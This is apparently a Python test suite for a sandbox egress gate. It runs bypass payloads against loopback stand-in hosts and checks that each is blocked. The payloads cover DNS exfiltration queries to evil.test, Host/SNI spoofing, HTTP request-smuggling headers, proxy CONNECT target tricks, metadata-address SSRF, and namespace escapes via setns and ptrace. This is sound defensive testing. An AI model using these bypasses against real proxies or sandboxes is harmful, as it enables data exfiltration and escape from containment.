#!/usr/bin/env python3
# slow: 35 s: each payload runs with the gate's checks and without one of them
"""egress_gate_test - group H of the attacks, and the known ways around walls that do not inspect
TLS, through `carrel gate`.

Each payload prints `OPEN name` for a way that it found and at last `END`. With the shipped program,
none may be open. Then the same payload runs with a check of the gate switched off (`off`), or
without a gate (`host`), and must find its way: otherwise the test could not fail, and proves
nothing.
"""
import os
import signal
import socket
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "rig"))
from box_rig import ALWAYS, CARREL, SWITCHES, check, end, report, until
from gate_rig import A, PRELUDE, Authority, Gate, Names, Origin, Result, enter

TELL = '''
def tell(name, is_open): sys.stdout.write(("OPEN " if is_open else "closed ") + name + "\\n"); sys.stdout.flush()
attempts = []
def tried(name, attempt, *words):
    """Side by side with the others: many an attempt hears nothing, and waits."""
    def go():
        try: tell(name, bool(attempt(*words)))
        except (OSError, AssertionError, ValueError): tell(name, False)
    attempts.append(threading.Thread(target=go))
    attempts[-1].start()
def has(name, marker): return lambda: marker in name()
'''
LAST = "\nfor t in attempts: t.join()\nprint('END')\n"
RAW = {"api": "127.0.0.2", "evil": "127.0.0.66", "inside": "127.0.0.1"}
table = []                   # printed at the end: attack, and how its control opened it


class World:
    """The names and servers that all rows share."""

    def __init__(self):
        self.turn = 0
        self.ca = Authority()
        self.names = Names({
            "api.test": ["127.0.0.2"], "evil.test": ["127.0.0.66"], "raw.test": ["127.0.0.2"], "flip.test": self.flip, "loop.test": ["127.0.0.1"], "meta.test": ["169.254.169.254"],
            "mapped.test": ["::ffff:127.0.0.1"], "nat64.test": ["64:ff9b::7f00:1"], "six.test": ["::1"], "six2four.test": ["2002:7f00:1::"], "zero.test": ["0.0.0.0"],
            "a.allowed.test": ["127.0.0.2"], "db.internal": ["127.0.0.66"], "own.internal": ["10.9.8.7"], "far.internal": ["10.1.2.3"], "it.localhost": ["127.0.0.66"]})
        self.api = Origin("127.0.0.2", 80)
        self.api_tls = Origin("127.0.0.2", 443, context=self.ca.context("api.test", "evil.test"))
        self.evil = Origin("127.0.0.66", 80)
        self.evil_tls = Origin("127.0.0.66", 443, context=self.ca.context("evil.test"))
        self.inside = Origin("127.0.0.1", 80)
        self.inside6 = Origin("::1", 80)
        self.ssh = Origin("127.0.0.2", 2200, lambda peer: peer.sendall(b"SSH-2.0-canary\r\n"))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.66", 443))
        threading.Thread(target=self.echo, daemon=True).start()

    def echo(self):
        while True:
            data, who = self.udp.recvfrom(2048)
            self.udp.sendto(b"quic " + data, who)

    def flip(self):
        """The first answer is permitted, the second is not."""
        self.turn += 1
        return ["127.0.0.2"] if self.turn % 4 < 2 else ["127.0.0.1"]


def outside(code):
    """The same payload without a gate: if it opens, then it is the gate that closes it."""
    return Result(subprocess.run([sys.executable, "-c", code], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=ALWAYS))


def words(r, word):
    return {line.split(" ", 1)[1] for line in r.out.splitlines() if line.startswith(word + " ")}


def row(name, allow, code, control, codes=(), host_code=None, **options):
    """One attack. `control`: "off:SWITCHES" or "host"; `codes`: refusals that must be reported."""
    code = TELL + code + LAST
    r = Gate(allow, **options).python(code)
    wrong = []
    if "END" not in r.out:
        wrong.append("the payload did not come to its end: %r" % r)
    if words(r, "OPEN"):
        wrong.append("opened: %s" % sorted(words(r, "OPEN")))
    wrong += ["%s was not told: %r" % (c, r.denials) for c in codes if c not in r.codes()]
    if control == "host":
        c = outside(PRELUDE + (TELL + host_code + LAST if host_code else code))
    else:
        c = Gate(allow, off=control[4:], **options).python(code)
    opened = words(c, "OPEN")
    if not opened:
        wrong.append("the control (%s) opened nothing, so this proves nothing: %r" % (control, c))
    table.append((name, control, len(opened), not wrong))
    report(name, wrong)


def by_address(w):
    """H09 and the first of the known ways: programs that ignore proxies, names, and TCP itself."""
    row("H09 a program that knows an address reaches nothing by it", ["api.test"], '''
tried("tcp", lambda: "200 OK" in talk("127.0.0.66", 80, get("evil.test"), 3))
tried("tls", lambda: "200 OK" in tls("127.0.0.66", "evil.test"))
tried("tls with a listed name", lambda: "200 OK" in tls("127.0.0.66", "api.test"))
tried("six", lambda: "200 OK" in talk("::1", 80, get("evil.test"), 3))
tried("mapped", lambda: "200 OK" in talk("::ffff:127.0.0.66", 80, get("evil.test"), 3))
tried("other port", lambda: "SSH" in talk("127.0.0.2", 2200, b"", 3))
def udp(port=443):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"x", ("127.0.0.66", port)); return s.recv(100)
tried("udp, as QUIC", udp)
def resolver():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1", ("127.0.0.1", 5300)); return s.recv(100)
tried("the resolver itself", resolver)
''', "host")
    before = len(w.evil.said)
    row("an address given out for one name is not another's, whatever is said in it (curl --resolve)", ["api.test", "*.allowed.test"], '''
a = address("api.test")
tried("sni of a neighbour", lambda: "200 OK" in tls(a, "a.allowed.test"))
tried("sni of somebody", lambda: "200 OK" in tls(a, "evil.test"))
tried("host of a neighbour", lambda: "200 OK" in talk(a, 80, get("a.allowed.test")))
''', "off:evidence,judge", codes=("sni_mismatch", "host_mismatch"))
    check("and the other host saw nothing of it", len(w.evil.said) == before)


def names(w):
    row("H10 no question about a name that is not listed leaves the host, whatever its type", ["api.test"], '''
for kind in (1, 28, 16, 255, 33, 65, 5, 10):
    tried("type %d" % kind, lambda kind: ask("secret-data.evil.test", kind)[0] == 0, kind)
tried("by another server", lambda: ask("secret.evil.test", 1, "8.8.8.8")[0] == 0)
tried("over tcp", lambda: ask("secret.evil.test", 1, tcp=True)[0] == 0)
''', "off:names", codes=("not_listed",))
    check("H10 and its resolver heard of none of them", not [n for n, _ in w.names.asked if n.startswith("secret")], w.names.asked[-5:])
    row("names are read one way: dots, NUL, cases, looks", ["api.test", "*.allowed.test"], '''
for name in ("api.test.evil.test", "evilapi.test", "allowed.test", "xallowed.test", "api.tes", "aapi.test", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "127.0.0.1", "xn--pi-6kc.test"):
    tried(name, lambda name: ask(name)[0] == 0 and ask(name)[1], name)
tried("nul", lambda: ask(b"evil.test\\0.api.test".decode("latin-1").replace(".", "\\x2e"))[1])
def raw(*labels):
    q = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l for l in labels) + b"\\0\\0\\1\\0\\1"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(("198.18.0.1", 53)); s.send(q); return s.recv(500)[7]
tried("a dot in a label", lambda: raw(b"x.allowed", b"test"))
tried("nul in a label", lambda: raw(b"evil\\0", b"allowed", b"test"))
tried("a blank in a label", lambda: raw(b"a b", b"allowed", b"test"))
''', "off:names")
    row("H11 many new names under a wildcard run into a budget, known ones go on", ["*.allowed.test"], '''
address("a.allowed.test")
opened = sum(1 for i in range(400) if ask_on("%x.allowed.test" % (i * 7919 + 1000000))[0] == 0)
print("#", opened, "of 400"); tell("300 of 400 random names", opened > 300)
assert ask("a.allowed.test")[0] == 0
''', "off:caps", codes=("too_many_names",))
    r = Gate(["api.test"]).python('''
for junk in (b"", b"x", b"\\0" * 12, os.urandom(600), b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1", b"\\x12\\x34\\1\\0\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xff" + b"\\x3f" * 500):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("198.18.0.1", 53)); s.send(junk)
    t = socket.create_connection(("198.18.0.1", 53), 2); t.sendall(struct.pack(">H", len(junk)) + junk); t.close()
t = socket.create_connection(("198.18.0.1", 53), 2)
try: t.sendall(b"\\xff\\xff" + b"x" * 65535)
except OSError: pass
print(ask("api.test")[0], ask("api.test", tcp=True)[0])
''')
    check("H20 junk sent to the name server harms nobody", r.out.split() == ["0", "0"], r)


def addresses(w):
    hosts = ["loop.test", "meta.test", "mapped.test", "nat64.test", "six.test", "six2four.test", "zero.test"]
    row("H05 H07 a name that leads to this machine, metadata, or an embedded address is not dialled", hosts, '''
for name in %r:
    tried(name, lambda name: "200 OK" in talk(address(name), 80, get(name), 8), name)
''' % hosts, "off:address", codes=("private_address",), networks=())
    before = len(w.inside.said)
    r = Gate(["flip.test"], networks=("127.0.0.2/32",)).python('''
a = address("flip.test")
got, until = [], time.monotonic() + 60            # an answer is kept for a second
while len(got) < 200 or (len({g[9:12] for g in got}) < 2 and time.monotonic() < until): got.append(talk(a, 80, get("flip.test"), 8))
print(len(got), sum("200 OK" in g for g in got), sum("403" in g for g in got))
''')
    tries, *count = [int(n) for n in r.out.split()]
    check("H05 a name that changes its mind between two answers reaches the vetted address alone, in 200 tries", sum(count) == tries >= 200 and min(count) > 0 and len(w.inside.said) == before, r)
    subprocess.run(["ip", "address", "add", "10.9.8.7/32", "dev", "lo"], check=True)
    private = ["db.internal", "own.internal", "far.internal", "it.localhost"]
    r = Gate(private, networks=(), host={"private_names": private}).python('for n in %r: print(talk(address(n), 80, get(n), 60)[9:12])' % private)
    check("a private name leads into private networks, and only a name below localhost to this machine", r.out.split() == ["403", "403", "502", "200"] and
          [(d["code"], d["host"]) for d in r.denials] == [("private_address", "db.internal"), ("private_address", "own.internal"), ("unreachable", "far.internal")], r)


def ports(w):
    row("H08 a listed host has the ports that are listed", ["api.test", "raw.test:8443"], '''
for port in (22, 25, 2200, 6443):
    tried("port %d" % port, lambda port: talk(address("api.test"), port, b"x", 3) not in ("ECONNREFUSED", "ECONNRESET", "timeout"), port)
tried("another name's port", lambda: "SSH" in talk("127.0.0.2", 2200, b"", 3))
tried("443 of host:port", lambda: "200 OK" in tls(address("raw.test"), "raw.test"))
''', "host", host_code='tried("2200", lambda: "SSH" in talk("127.0.0.2", 2200, b"", 3))')
    row("a port of one name is not another's", ["api.test:2200", "raw.test"], '''
address("api.test")
tried("2200 of raw.test", lambda: "SSH" in talk(address("raw.test"), 2200, b"", 3))
''', "host", host_code='tried("2200", lambda: "SSH" in talk("127.0.0.2", 2200, b"", 3))')


def http(w):
    said = '''
a = address("api.test")
def sent(data, wait=3): return talk(a, 80, data, wait)
'''
    before = len(w.api.said)
    row("H12 Host decides, on every request, once and in origin form", ["api.test"], said + '''
host = "Host: api.test\\r\\n"
tried("host of another", lambda: "200 OK" in sent(get("evil.test")))
tried("no host", lambda: "200 OK" in sent(b"GET / HTTP/1.1\\r\\n\\r\\n"))
tried("two hosts", lambda: "200 OK" in sent(("GET / HTTP/1.1\\r\\n" + host + "Host: evil.test\\r\\n\\r\\n").encode()))
tried("host and port", lambda: "200 OK" in sent(get("api.test:8080")))
tried("user in host", lambda: "200 OK" in sent(get("api.test@evil.test")))
tried("nul in host", lambda: "200 OK" in sent(b"GET / HTTP/1.1\\r\\nHost: api.test\\0evil.test\\r\\n\\r\\n"))
tried("folded host", lambda: "200 OK" in sent(b"GET / HTTP/1.1\\r\\nHost: api.test\\r\\n evil.test\\r\\n\\r\\n"))
tried("absolute form", lambda: "200 OK" in sent(("GET http://evil.test/ HTTP/1.1\\r\\n" + host + "\\r\\n").encode()))
tried("absolute form of itself", lambda: "200 OK" in sent(("GET http://api.test/ HTTP/1.1\\r\\n" + host + "\\r\\n").encode()))
tried("connect", lambda: "200 OK" in sent(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n"))
tried("h2c", lambda: "200 OK" in sent(("GET / HTTP/1.1\\r\\n" + host + "Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n").encode()))
tried("another upgrade", lambda: "200 OK" in sent(("GET / HTTP/1.1\\r\\n" + host + "Connection: Upgrade\\r\\nUpgrade: tunnel\\r\\n\\r\\n").encode()))
tried("length and chunks", lambda: "200 OK" in sent(("POST / HTTP/1.1\\r\\n" + host + "Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n").encode()))
tried("two lengths", lambda: "200 OK" in sent(("POST / HTTP/1.1\\r\\n" + host + "Content-Length: 0\\r\\nContent-Length: 4\\r\\n\\r\\n").encode()))
tried("line feeds alone", lambda: "200 OK" in sent(b"GET / HTTP/1.1\\nHost: evil.test\\n\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"))
''', "off:judge", codes=("host_mismatch", "host_missing", "proxy_form", "nested_connect", "upgrade", "malformed"))
    row("H12 a second request on the same connection is judged as the first", ["api.test"], said + '''
s = socket.create_connection((a, 80), 60); s.settimeout(30)
s.sendall(get("api.test", "/first") + get("evil.test", "/second"))
got = b""
try:
    while got.count(b"200 OK") < 2:
        more = s.recv(65536)
        if not more: break
        got += more
except OSError: pass
tell("second", b"/second" in got)
s = socket.create_connection((a, 80), 60); s.settimeout(30)
s.sendall(get("api.test")); s.recv(65536)
got = b""
try:
    for byte in get("evil.test", "/bytewise"):
        s.sendall(bytes([byte]))
    got = s.recv(65536)
except OSError: pass
tell("byte by byte", b"/bytewise" in got)
''', "off:judge", codes=("host_mismatch",))
    row("what is neither TLS nor HTTP does not pass 80 and 443", ["api.test"], said + '''
tried("ssh on 80", lambda: "200" in sent(b"SSH-2.0-x\\r\\n\\r\\n"))
tried("raw on 443", lambda: "200 OK" in talk(a, 443, b"\\0\\1\\2\\3 GET", 3))
tried("http on 443 of another", lambda: "200 OK" in talk(a, 443, get("evil.test"), 3))
tried("binary, then http", lambda: "200 OK" in sent(b"\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"))
''', "host", codes=("unknown_protocol",), host_code='tried("raw", lambda: "200 OK" in talk("127.0.0.2", 80, b"\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", 3))')


def tls_rows(w):
    row("H13 TLS is for the name that was looked up, or ends", ["api.test"], '''
a = address("api.test")
tried("another name", lambda: "200 OK" in tls(a, "evil.test"))
tried("no name", lambda: "200 OK" in tls(a, None))
def connect(target, name):
    s = socket.create_connection(("198.18.0.1", 3128), 60); s.settimeout(30)
    s.sendall(("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (target, target)).encode())
    if b" 200 " not in s.recv(4096): return ""
    c = ssl._create_unverified_context()
    with c.wrap_socket(s, server_hostname=name) as t:
        t.sendall(get(name)); return t.recv(65536).decode("latin-1")
tried("by the proxy", lambda: "200 OK" in connect("api.test:443", "evil.test"))
def slowly():
    c = ssl._create_unverified_context()
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(i, o, server_hostname="evil.test")
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    s = socket.create_connection((a, 443), 60); s.settimeout(30); s.setsockopt(6, 1, 1)
    for b in o.read(): s.sendall(bytes([b]))
    return s.recv(100)[:1] == b"\\x16"
tried("byte by byte", slowly)
''', "off:evidence", codes=("sni_mismatch", "sni_missing"))
    row("H13 the proxy judges as the wall does", ["api.test"], '''
def proxy(target):
    return " 200 " in talk("198.18.0.1", 3128, ("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (target, target)).encode(), 1.5) or \\
        PASSED(target)
def PASSED(target):
    s = socket.create_connection(("198.18.0.1", 3128), 60); s.settimeout(2)
    s.sendall(("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (target, target)).encode())
    return b" 200 " in s.recv(4096)
def plain(data):
    s = socket.create_connection(("198.18.0.1", 3128), 60); s.settimeout(2); s.sendall(data); got = b""
    while True:
        try: more = s.recv(65536)
        except OSError: break
        if not more: break
        got += more
    return got
tried("GET of another", lambda: b"200 OK" in plain(b"GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"))
tried("GET for two hosts", lambda: b"200 OK" in plain(b"GET http://api.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"))
tried("GET of another port", lambda: b"200 OK" in plain(b"GET http://api.test:2200/ HTTP/1.1\\r\\nHost: api.test:2200\\r\\n\\r\\n"))
tried("GET of https", lambda: b"200 OK" in plain(b"GET https://api.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"))
tried("not for a proxy", lambda: b"200 OK" in plain(get("api.test")))
tried("the second of two", lambda: b"/second" in plain(b"GET http://api.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n" + get("api.test", "/second")))
tried("a field that looks like a line", lambda: b"evil" in plain(b"GET http://api.test/ HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: x\\r\\n y\\r\\nHost: evil\\r\\n\\r\\n"))
for target in ("evil.test:443", "api.test:22", "127.0.0.66:80", "169.254.169.254:80", "api.test.evil.test:443"):
    tried(target, proxy, target)
''', "off:connection", codes=("not_listed",))
    proxy_words(w)
    row("H14 a redirect is a connection like any other", ["api.test"], '''
tried("the second hop", lambda: "200 OK" in talk(address("evil.test"), 80, get("evil.test")))
''', "host", host_code='tried("hop", lambda: "200 OK" in talk("127.0.0.66", 80, get("evil.test")))')
    row("H15 a relay inside gets no further than who asks it", ["api.test"], '''
relay = socket.socket(); relay.bind(("127.0.0.1", 8080)); relay.listen()
def serve():
    s, _ = relay.accept(); s.recv(4096)
    s.sendall(talk(TARGET, 80, get("evil.test"), 3).encode())
    s.close()
TARGET = "127.0.0.66"
threading.Thread(target=serve, daemon=True).start()
tried("by the relay", lambda: "200 OK" in talk("127.0.0.1", 8080, b"x"))
''', "host")


def proxy_words(w):
    before, asked = len(w.evil.said) + len(w.inside.said), len(w.api.said)
    code = '''
def proxy(data):
    s = socket.create_connection(("198.18.0.1", 3128), 60); s.settimeout(30); s.sendall(data); got = b""
    try:
        while b"\\r\\n\\r\\n" not in got and (more := s.recv(65536)): got += more
        if got.startswith(b"HTTP/1.1 200 Connection"):
            s.sendall(get("evil.test")); got += s.recv(65536)
    except OSError: pass
    return got
def connect(target, host=None): return proxy(b"CONNECT %b HTTP/1.1\\r\\nHost: %b\\r\\n\\r\\n" % (target, host or target))
print("control", b" 200 " in connect(b"api.test:443")[:16], b"200 OK" in proxy(b"GET http://api.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"))
for target in (b"api.test@evil.test:80", b"user:pass@api.test:80", b"evil.test#@api.test:80", b"evil.test.:80", b"api.test.evil.test.:80", b"evil.test\\xe3\\x80\\x82:80", b"\\xc3\\xa9vil.test:80",
               b"evil%2etest:80", b"api.test%00.evil.test:80", b"evil.test\\0.allowed.test:80", b"evil.test/.allowed.test:80", b"evil.test?.allowed.test:80", b"evil.test\\\\.allowed.test:80", b"evil.test:80:api.test:80",
               b"[::ffff:127.0.0.66]:80", b"[::ffff:7f00:42]:80", b"[::127.0.0.66]:80", b"[64:ff9b::7f00:42]:80", b"[2002:7f00:42::1]:80", b"[::1]:80", b"[::]:80", b"[fe80::1]:80", b"[fe80::1%25lo]:80",
               b"0.0.0.0:80", b"0:80", b"127.0.0.66:80", b"127.66:80", b"2130706498:80", b"0x7f000042:80", b"0177.0.0.0102:80", b"127.0.0.66.:80", b"169.254.169.254:80", b"localhost:80", b"x.localhost:80",
               b"evil.test:0", b"evil.test:00080", b"evil.test:+80", b"evil.test:65616", b"evil.test:", b"evil.test", b":80", b"http://evil.test:80"):
    got = connect(target)
    if b" 200 " in got[:16]: print("OPEN", target, got[:60])
    if b" 200 " in connect(target, b"api.test:80")[:16]: print("OPEN with Host", target)
evil = b"GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
for fields in (b"Content-Length: 0\\r\\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\\r\\nContent-Length: 5", b"Transfer-Encoding : chunked", b"Transfer-Encoding:\\x0bchunked", b"Transfer-Encoding: xchunked",
               b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity", b"X: y\\r\\n Transfer-Encoding: chunked",
               b"Content-Length: 5, 0", b"Content-Length: +0", b"Content-Length: 0x0", b"Content-Length: 0\\r\\n 5", b"Content-Length : 0", b"Content-Length:\\r\\n 0", b"X: y\\nHost: evil.test", b"X: y\\rHost: evil.test",
               b"Host : evil.test", b" Host: evil.test", b"Host:\\r\\n evil.test", b"Proxy-Connection: x\\r\\n\\tHost: evil.test", b"Connection: Host"):
    proxy(b"POST http://api.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n" + fields + b"\\r\\n\\r\\n0\\r\\n\\r\\n" + evil)
for line in (b"GET http://api.test@evil.test/ HTTP/1.1", b"GET http://evil.test#@api.test/ HTTP/1.1", b"GET http:\\\\\\\\evil.test/ HTTP/1.1", b"GET http:evil.test/ HTTP/1.1", b"GET //evil.test/ HTTP/1.1", b"GET HTTP://evil.test/ HTTP/1.1",
             b"GET http://evil.test/ HTTP/1.0", b"GET http://evil.test/", b"GET  http://evil.test/ HTTP/1.1", b"GET http://api.test http://evil.test/ HTTP/1.1", b"GET http://api.test\\thttp://evil.test/ HTTP/1.1", b"CONNECT evil.test:80 HTTP/1.1"):
    if b"200" in proxy(line + b"\\r\\nHost: api.test\\r\\n\\r\\n")[:16]: print("OPEN", line)
for cut in (b"CONNECT", b"CONNECT api.test:443 HTTP/1.1\\r\\nHost: api.test:443\\r\\n", b"GET http://api.test/ HTTP/1.1\\r\\nHost: api.test\\r\\nX: " + b"y" * 70000):
    s = socket.create_connection(("198.18.0.1", 3128), 60); s.settimeout(60)
    try:
        s.sendall(cut); s.shutdown(1)
        if b" 200 " in s.recv(4096)[:16]: print("OPEN", cut[:40])
    except OSError: pass
print("END", b"200 OK" in proxy(b"GET http://api.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"))
'''
    r = Gate(["api.test", "*.allowed.test"]).python(code)
    check("H12 H13 the proxy reads targets and heads one way: userinfo, dots, other digits, addresses in other clothes, two lengths, folded lines, halves", r.out == "control True True\nEND True\n", r)
    check("  and neither another host nor this machine was asked, nor api.test for another", len(w.evil.said) + len(w.inside.said) == before and
          not [s for s in w.api.said[asked:] if b"evil" in s], w.evil.said[-3:], w.api.said[asked:])
    r = Gate(["api.test", "*.allowed.test"], off="connection").python(code)
    check("  with the check of destinations off, another name is opened", "OPEN b'evil.test.:80'" in r.out, r)


def ways_out():
    row("the namespace is not left: no setns, no raw socket, no other family, no descriptor or memory of ours", ["api.test"], '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def setns(pid):
    fd = os.open("/proc/%d/ns/net" % pid, os.O_RDONLY)
    return libc.setns(fd, 0x40000000) == 0 and "200 OK" in talk("127.0.0.66", 80, get("evil.test"), 3)
def holds(pid):
    """A descriptor of it that this process can open again, or take."""
    if os.readlink("/proc/%d/fd/3" % pid): return True
    handle = os.pidfd_open(pid); return libc.syscall(438, handle, 3, 0) >= 0
for pid in supervisors():
    name = open("/proc/%d/comm" % pid).read().strip() + " "
    tried(name + "setns", setns, pid)
    tried(name + "traced", lambda pid: libc.ptrace(0x4206, pid, 0, 0) == 0, pid)
    tried(name + "memory", lambda pid: os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR)) is None, pid)
    tried(name + "descriptors", holds, pid)
tried("an inherited descriptor", lambda: os.fstat(77) and os.read(77, 1) == b"k")
''', "host", host_code='''
import ctypes
r, w = os.pipe(); os.write(w, b"k"); os.dup2(r, 77)
tried("inherited", lambda: os.read(77, 1) == b"k")
pid = os.fork()
if pid == 0: time.sleep(300); os._exit(0)
tried("traced", lambda: libc.ptrace(0x4206, pid, 0, 0) == 0)
tried("memory", lambda: os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR)) is None)
tried("descriptors", lambda: bool(os.readlink("/proc/%d/fd/0" % pid)))
for t in attempts: t.join()
os.kill(pid, 9)
''')
    gate = Gate(["api.test"])
    p = gate.start("sh", "-c", "echo runs; exec sleep 300")
    try:
        runs = p.stdout.readline()
        s = socket.socket()
        s.settimeout(1)
        wrong = [] if runs == b"runs\n" else ["the command does not run"]
        try:
            s.connect(("198.18.0.1", 3128))
            wrong.append("the proxy of a wall is reached from outside it")
        except OSError:
            pass
        report("H16 a wall's proxy is reached from inside that wall alone", wrong)
    finally:
        p.terminate()
        p.wait()


def caps():
    for option, code, word in ((("--connections", "5"), '''
lot = []
reset = 0
for i in range(20):
    try:
        s = socket.create_connection((address("raw.test"), 2200), 60); s.settimeout(30); lot.append(s)
        if not s.recv(10): reset += 1
    except OSError: reset += 1
print(reset)
''', "too_many_connections"), (("--bytes-in", "5"), 'print(int(talk(address("raw.test"), 2200) == "ECONNRESET") * 15)', "bytes_exhausted"),
            (("--bytes-out", "10"), 'print(int(talk(address("raw.test"), 2202, b"x" * 4096) == "ECONNRESET") * 15)', "bytes_exhausted")):
        for off in ("", "caps"):
            g = Gate(["raw.test:2200", "raw.test:2202"], off=off)
            g.options += option
            r = g.python(code)
            is_held = r.out.strip() == "15" and word in r.codes()
            check("%s is %s" % (option[0], "held to, and told" if not off else "what held: with its check off it is not"), is_held == (not off), r)
    g = Gate(["raw.test:2201"])
    g.options += ["--bandwidth", "1000000"]
    r = g.python('''
s = socket.create_connection((address("raw.test"), 2201), 60)
begin = time.monotonic(); s.sendall(b"x" * 1500000); s.shutdown(socket.SHUT_WR); s.recv(1); took = time.monotonic() - begin
print(0.5 < took < 60, took)
''')
    check("--bandwidth holds a sender to its rate", r.out.startswith("True"), r)


def change():
    for off in ("", "change"):
        g = Gate(["raw.test:2203", "api.test"], off=off)
        p = g.start(sys.executable, "-uc", PRELUDE + '''
s = socket.create_connection((address("raw.test"), 2203), 60); s.settimeout(60); s.sendall(b"x"); s.recv(1)
t = socket.create_connection((address("api.test"), 80), 60); t.settimeout(30); t.sendall(get("api.test")); t.recv(65536)
print("ready"); sys.stdin.readline()
while ask("raw.test")[0] == 0: time.sleep(0.01)       # until the gate goes by the list of now
try: s.sendall(b"still"); print("end" if s.recv(10) == b"" else "lives")
except OSError as e: print(errno.errorcode.get(e.errno, "timeout"))
print("reset")
t.sendall(get("api.test", "/still")); print("/still" in t.recv(65536).decode())
print(ask("raw.test")[0], ask("api.test")[0])
''')
        try:
            p.stdout.readline()
            with open(g.policy, "w") as f:
                f.write('["api.test"]')
            p.send_signal(signal.SIGUSR1)
            out, err = p.communicate(b"\n", timeout=300)
            rest = [b"reset", b"True", b"3", b"0"]
            held = out.split() == [b"ECONNRESET", *rest] and b"list_changed" in err
            lives = out.split() == [b"lives", *rest] and b"list_changed" not in err
            check("H17 a narrower list resets what it no longer allows at once, and nothing else" if not off else "H17 and with that off, it lives on", lives if off else held, out, err[-500:])
        finally:
            p.kill()


def lists():
    for policy in ("", "null", "[]", "{}", "egress:\n", "egress: []\n"):
        r = Gate(policy).python('print(ask("api.test")[0])')
        check("H01 %r allows nothing" % policy, r.out.strip() == "3" or r.status == 126, r)
    for policy in ('[""]', '["*"]', '["*.com"]', '["a*.x.test"]', '["user@api.test"]', '["[::1]"]', '["http://api.test"]', '["api.test/x"]', '["127.0.0.1"]', '[1]', '{"egress": "api.test"}', '["api.test", {"a": 1}]'):
        r = Gate(policy).run("true")
        check("H02 %s is refused" % policy, r.status == 126, r)
    g = Gate(["*.anthropic.test", "api.test"])
    for name, is_allowed in (("a.anthropic.test", True), ("anthropic.test", False), ("evilanthropic.test", False), ("anthropic.test.evil", False), ("A.ANTHROPIC.TEST.", True), ("..", False),
                             (".anthropic.test", False), ("a" * 64 + ".anthropic.test", False), ("a.b.anthropic.test", True), ("user@a.anthropic.test", False), ("api.test:443", True), ("[::1]", False)):
        r = g.explain(name)
        check("H02 %s is %s" % (name[:30], "allowed" if is_allowed else "denied"), r.status == (0 if is_allowed else 1), r)


def sink(peer):
    while peer.recv(65536):
        pass


def takes_in(peer):
    """Ends when it has what a row sends."""
    count = 0
    while count < 4096 and (more := peer.recv(65536)):
        count += len(more)


def says_back(peer):
    while data := peer.recv(65536):
        peer.sendall(data)


def main(only=()):
    enter()
    w = World()
    for port, serve in ((2201, sink), (2202, takes_in), (2203, says_back)):
        Origin("127.0.0.2", port, serve)
    for rows in (by_address, names, addresses, ports, http, tls_rows, ways_out, caps, change, lists):
        if not only or rows.__name__ in only:
            rows(w) if rows.__code__.co_argcount else rows()
    for name, control, opened, good in table:
        print("# %-100s %-22s %2d ways %s" % (name[:100], control, opened, "held" if good else "NOT HELD"))
    for name in ("domain fronting behind a listed host (another Host inside TLS)", "paths and methods of a listed host", "an attacker's own key on a listed host", "frames of a websocket"):
        print("# %-100s %-22s" % (name, "only by inspection"))
    end()


if __name__ == "__main__":
    main(sys.argv[1:])
